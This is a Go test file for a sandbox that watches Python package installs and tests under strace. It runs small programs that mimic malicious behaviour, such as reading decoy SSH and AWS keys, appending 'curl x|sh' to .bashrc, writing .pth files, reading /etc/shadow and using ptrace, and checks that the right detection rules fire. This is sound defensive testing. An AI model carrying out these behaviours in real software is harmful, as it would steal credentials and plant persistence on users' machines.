package behavior

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/pyti/pyti/internal/trace"
)

// jobDirs is a fake job laid out like the sandbox's: a HOME with decoys, a work directory with
// its own temporary directory and site-packages.
type jobDirs struct {
	home, work, tmp, site string
}

func newJob(t *testing.T) jobDirs {
	t.Helper()
	root := t.TempDir()
	j := jobDirs{
		home: filepath.Join(root, "home"),
		work: filepath.Join(root, "work"),
		tmp:  filepath.Join(root, "work", "tmp"),
		site: filepath.Join(root, "work", "env", "lib", "python3.11", "site-packages"),
	}
	for _, d := range []string{j.home + "/.ssh", j.home + "/.aws", j.tmp, j.site, j.work + "/bin"} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, content := range map[string]string{
		".ssh/id_rsa":      "-----BEGIN OPENSSH PRIVATE KEY-----\nPYTI-DECOY\n",
		".aws/credentials": "[default]\naws_access_key_id = AKIAPYTIDECOY\n",
		".pypirc":          "[pypi]\npassword = pypi-decoy\n",
	} {
		if err := os.WriteFile(filepath.Join(j.home, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// Stand-ins for network tools and schedulers: running them must not touch anything real.
	for _, name := range []string{"curl", "crontab"} {
		if err := os.WriteFile(filepath.Join(j.work, "bin", name), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return j
}

func (j jobDirs) ctx(phase string) EvalContext {
	return EvalContext{Phase: phase, Home: j.home, WorkDirs: []string{j.work}, SitePackages: []string{j.site}, TempDirs: []string{j.tmp}}
}

// traceRun runs argv under the real strace (in an empty network namespace when netns is set)
// with the job's HOME, TMPDIR and working directory, and returns every event.
func traceRun(t *testing.T, j jobDirs, netns bool, argv ...string) []trace.Event {
	t.Helper()
	if _, err := exec.LookPath(trace.StraceBinary); err != nil {
		t.Skip("strace not installed")
	}
	if netns && os.Geteuid() != 0 {
		t.Skip("unshare -n needs root")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	out := filepath.Join(t.TempDir(), "trace.txt")
	cmd := trace.Command(ctx, out, argv...)
	if netns {
		cmd = exec.CommandContext(ctx, "unshare", append([]string{"-n", trace.StraceBinary}, append(trace.StraceArgs(out), argv...)...)...)
	}
	cmd.Dir = j.work
	cmd.Env = []string{
		"HOME=" + j.home, "TMPDIR=" + j.tmp, "PATH=" + j.work + "/bin:/usr/bin:/bin",
		"LANG=C.UTF-8", "PIP_NO_INPUT=1", "PIP_DISABLE_PIP_VERSION_CHECK=1",
		"PIP_CACHE_DIR=" + filepath.Join(j.work, "pip-cache"), "PYTHONDONTWRITEBYTECODE=",
	}
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", argv, err, b)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var events []trace.Event
	tr, err := trace.Parse(f, trace.Options{Cwd: j.work, OnEvent: func(e trace.Event) { events = append(events, e) }})
	if err != nil {
		t.Fatal(err)
	}
	if tr.BadLines > 0 {
		t.Errorf("%d strace lines not understood", tr.BadLines)
	}
	return events
}

func ruleIDs(fs []Finding) []string {
	var ids []string
	for _, f := range fs {
		ids = append(ids, f.RuleID)
	}
	sort.Strings(ids)
	return ids
}

func py(code string) []string { return []string{"/usr/bin/python3", "-c", code} }

// realCases run one small real program per rule under strace.
var realCases = []struct {
	name    string
	argv    []string
	netns   bool
	phase   string
	want    []string
	subject string // the subject of the first finding of want[0], if set
}{
	{name: "decoy ssh key", argv: py(`import os; open(os.path.expanduser("~/.ssh/id_rsa")).read()`),
		want: []string{"decoy-credential-read"}, subject: "/home/.ssh/id_rsa"},
	{name: "decoy aws via cat", argv: []string{"/bin/cat", "../home/.aws/credentials"},
		want: []string{"decoy-credential-read"}, subject: "/home/.aws/credentials"},
	{name: "decoy pypirc read by a test (distlib's PackageIndex)", phase: "test", argv: py(`import os; open(os.path.expanduser("~/.pypirc")).read()`),
		want: []string{"decoy-credential-read"}, subject: "/home/.pypirc"},
	{name: "network connect", netns: true, argv: py(`
import socket
try: socket.create_connection(("203.0.113.7", 443), timeout=2)
except OSError: pass`), want: []string{"network-attempt"}, subject: "203.0.113.7:443"},
	{name: "udp send", netns: true, argv: py(`
import socket
try: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::5", 53))
except OSError: pass`), want: []string{"network-attempt"}, subject: "[2001:db8::5]:53"},
	{name: "resolver is not a finding", netns: true, phase: "install", argv: py(`
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53))
except OSError: pass`), want: nil},
	{name: "loopback connect", netns: true, phase: "test", argv: py(`
import socket
try: socket.create_connection(("127.0.0.1", 8080), timeout=2)
except OSError: pass`), want: []string{"network-loopback"}, subject: "127.0.0.1:8080"},
	{name: "unix socket", argv: py(`
import socket
try: socket.socket(socket.AF_UNIX).connect("/run/pyti-no-such.sock")
except OSError: pass`), want: []string{"unix-socket-connect"}},
	{name: "home dot-file", argv: py(`import os; open(os.path.expanduser("~/.evil"), "w").write("x")`),
		want: []string{"write-outside-job"}, subject: "/home/.evil"},
	// os.openpty() opens /dev/ptmx read-write: a new terminal pair, no file changed (yamllint's
	// tests of its coloured output, pexpect).
	{name: "a pseudo-terminal", phase: "test", argv: py(`import os; os.openpty()`), want: nil},
	// An interactive shell or Python keeps its history in HOME when it exits (argcomplete's and
	// pexpect's tests drive bash through a terminal): the program's own record, no file of
	// anyone's changed.
	{name: "shell history", phase: "test", argv: []string{"/bin/bash", "-c", "HISTFILE=~/.bash_history; set -o history; echo hi; history -w"},
		want: []string{"passwd-read", "test-shell-command"}},
	{name: "python history", phase: "test", argv: py(`import os, readline; readline.add_history("x"); readline.write_history_file(os.path.expanduser("~/.python_history"))`),
		want: nil},
	{name: "pth file", argv: py(`open("env/lib/python3.11/site-packages/zz.pth", "w").write("import os\n")`),
		want: []string{"pth-file-written"}, subject: "/work/env/lib/python3.11/site-packages/zz.pth"},
	{name: "sitecustomize", argv: py(`open("env/lib/python3.11/site-packages/sitecustomize.py", "w").write("print(1)\n")`),
		want: []string{"sitecustomize-written"}},
	{name: "bashrc", argv: py(`import os; open(os.path.expanduser("~/.bashrc"), "a").write("curl x|sh\n")`),
		want: []string{"persistence", "write-outside-job"}, subject: "/home/.bashrc"},
	{name: "autostart", argv: []string{"/bin/sh", "-c", `mkdir -p "$HOME/.config/autostart" && echo x > "$HOME/.config/autostart/a.desktop"`},
		want: []string{"persistence", "persistence", "shell-command", "write-outside-job"}},
	{name: "crontab", argv: py(`import subprocess; subprocess.run(["crontab", "-l"])`),
		want: []string{"persistence-command"}},
	{name: "shell -c", argv: py(`import subprocess; subprocess.run("true", shell=True)`),
		want: []string{"shell-command"}, subject: "/bin/sh -c true"},
	{name: "shell -c in the tests", phase: "test", argv: py(`import subprocess; subprocess.run("true", shell=True)`),
		want: []string{"test-shell-command"}, subject: "/bin/sh -c true"},
	{name: "plain shell script is not sh -c", argv: []string{"/bin/sh", "bin/crontab"}, want: nil},
	{name: "curl", argv: py(`import subprocess; subprocess.run(["curl", "-s", "http://203.0.113.7/x"])`),
		want: []string{"downloader-run"}},
	{name: "base64 -d", argv: []string{"/bin/sh", "-c", "echo aGkK | base64 -d"},
		want: []string{"decoder-run", "shell-command"}},
	{name: "python -c socket", argv: py(`import subprocess, sys; subprocess.run([sys.executable, "-c", "import sock" + "et; sock" + "et.getaddrinfo"])`),
		want: []string{"python-inline-network"}},
	{name: "shadow", argv: py(`
try: open("/etc/shadow").read()
except OSError: pass`), want: []string{"system-account-read"}},
	{name: "passwd", argv: py(`import pwd; pwd.getpwall()`), want: []string{"passwd-read"}},
	{name: "other environ", argv: py(`
import os
try: open("/proc/%d/environ" % os.getppid(), "rb").read()
except OSError: pass`), want: []string{"process-environ-read"}},
	{name: "process scan", argv: py(`
import os
for p in os.listdir("/proc"):
    if p.isdigit():
        try: open("/proc/%s/cmdline" % p, "rb").read()
        except OSError: pass`), want: []string{"process-scan"}},
	{name: "tracer check", argv: py(`open("/proc/self/status").read()`), want: []string{"debugger-check"}},
	{name: "container check", argv: py(`open("/proc/1/cgroup").read()`), want: []string{"container-check"}},
	{name: "ptrace", argv: py(`import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)`), want: []string{"ptrace"}},
	{name: "tiocsti", argv: py(`
import fcntl, termios
try: fcntl.ioctl(0, termios.TIOCSTI, b"x")
except OSError: pass`), want: []string{"tiocsti"}},
	{name: "raw socket", netns: true, argv: py(`
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except OSError: pass
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except OSError: pass`), want: []string{"raw-socket", "raw-socket"}},
	{name: "unshare", argv: py(`import ctypes; ctypes.CDLL(None).unshare(0x00020000)`), want: []string{"escape-syscall"}},
	{name: "memfd", argv: py(`import os; os.memfd_create("payload")`), want: []string{"memfd-create"}},
	{name: "compiler during build", phase: "build", argv: []string{"/bin/sh", "-c", "exec gcc -c -o x.o -x c - <<EOF\nint f(void){return 1;}\nEOF"},
		want: []string{"shell-command"}},
	{name: "benign python", argv: py(`import json, ssl, email, hashlib, socket, subprocess, tempfile, time; tempfile.mkstemp(); time.localtime()`),
		want: nil},
}

// TestRulesRealTraces runs one small real program per rule and checks exactly which rules
// fire.
func TestRulesRealTraces(t *testing.T) {
	rules, err := DefaultRules()
	if err != nil {
		t.Fatal(err)
	}
	tests := realCases
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			j := newJob(t)
			events := traceRun(t, j, tt.netns, tt.argv...)
			phase := tt.phase
			if phase == "" {
				phase = "install"
			}
			fs, err := Evaluate(events, j.ctx(phase), rules)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, ruleIDs(fs)); diff != "" {
				for _, f := range fs {
					t.Logf("%s %s: %s (%d)", f.Severity, f.RuleID, f.Message, f.Count)
				}
				t.Errorf("rules fired (-want +got):\n%s", diff)
			}
			if tt.subject == "" || len(tt.want) == 0 {
				return
			}
			for _, f := range fs {
				if f.RuleID != tt.want[0] {
					continue
				}
				root := filepath.Dir(j.work)
				if got := strings.ReplaceAll(f.Subject, root, ""); got != tt.subject {
					t.Errorf("subject = %q, want %q", got, tt.subject)
				}
				if len(f.Evidence) == 0 || f.Evidence[0].PID == 0 || f.Evidence[0].Time.IsZero() {
					t.Errorf("finding without evidence: %+v", f)
				}
				if !strings.Contains(f.Message, f.Evidence[0].Subject()) && !strings.Contains(f.Message, strings.TrimPrefix(f.Subject, "")) {
					t.Errorf("message %q names neither the evidence nor the subject", f.Message)
				}
			}
		})
	}
}
